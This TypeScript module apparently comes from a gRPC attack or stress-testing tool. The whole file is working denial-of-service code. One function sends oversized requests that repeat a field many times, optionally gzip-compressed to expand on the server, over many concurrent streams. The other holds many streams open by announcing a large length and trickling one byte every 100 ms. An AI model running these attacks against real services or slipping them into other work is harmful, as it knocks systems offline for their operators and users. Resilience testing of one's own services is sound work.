import { setTimeout as delay } from 'node:timers/promises';
import { gzipSync } from 'node:zlib';
import { begin, callOnce, outcomeOf, type Outcome } from './calls.js';
import { connectSession, type Target } from './target.js';

/* Requests of a caller with a token. */

export interface RepeatedFields {
  readonly path: string;
  /** The bytes of one element, in hex. */
  readonly element: string;
  readonly elements: number;
  /** The tag, in hex, of the field that contains the elements, if they are not in the request itself. */
  readonly within?: string;
  readonly count: number;
  readonly compressed: boolean;
  readonly token: string;
  readonly holdMs: number;
}

/** Calls whose request repeats a field far more often than its method accepts. */
export const repeatedFields = async (target: Target, attack: RepeatedFields): Promise<Outcome> => {
  const element = Buffer.from(attack.element, 'hex');
  const elements = Buffer.alloc(element.length * attack.elements, element);
  const plain =
    attack.within === undefined
      ? elements
      : Buffer.concat([Buffer.from(attack.within, 'hex'), varint(elements.length), elements]);
  const body = attack.compressed ? gzipSync(plain) : plain;
  const session = await connectSession(target, 'grpc');
  const streams = Array.from({ length: attack.count }, () =>
    callOnce(session, attack, body, attack.compressed ? 1 : 0),
  );
  const outcome = await outcomeOf(streams, { withinMs: attack.holdMs });
  session.destroy();
  return outcome;
};

const varint = (value: number): Buffer => {
  const bytes: number[] = [];
  let rest = value;
  for (; rest > 127; rest >>>= 7) bytes.push((rest & 127) | 128);
  return Buffer.from([...bytes, rest]);
};

export interface Trickle {
  readonly path: string;
  readonly count: number;
  /** Without one the peer is unauthenticated. */
  readonly token?: string;
  /** The announced length, and how much of it is sent at once. A byte follows every 100 ms. */
  readonly announcedBytes: number;
  readonly atOnceBytes: number;
  readonly holdMs: number;
}

/** Calls that send their request slowly, from the first byte of its last part on. */
export const trickle = async (target: Target, attack: Trickle): Promise<Outcome> => {
  const perConnection = 50;
  const sessions = await Promise.all(
    Array.from({ length: Math.ceil(attack.count / perConnection) }, () => connectSession(target, 'grpc')),
  );
  const prefix = Buffer.alloc(5);
  prefix.writeUInt32BE(attack.announcedBytes, 1);
  const first = Buffer.concat([prefix, Buffer.alloc(attack.atOnceBytes, 'a')]);
  const streams = Array.from({ length: attack.count }, (_, index) => {
    const session = sessions[index % sessions.length];
    if (session === undefined) throw new Error('there is no connection');
    const stream = begin(session, attack);
    stream.write(first);
    return stream;
  });
  const trickling = setInterval(() => {
    for (const stream of streams) if (stream.writable && stream.writableLength === 0) stream.write('a');
  }, 100);
  const outcome = outcomeOf(streams, { withinMs: attack.holdMs });
  await delay(attack.holdMs);
  clearInterval(trickling);
  for (const session of sessions) session.destroy();
  return outcome;
};
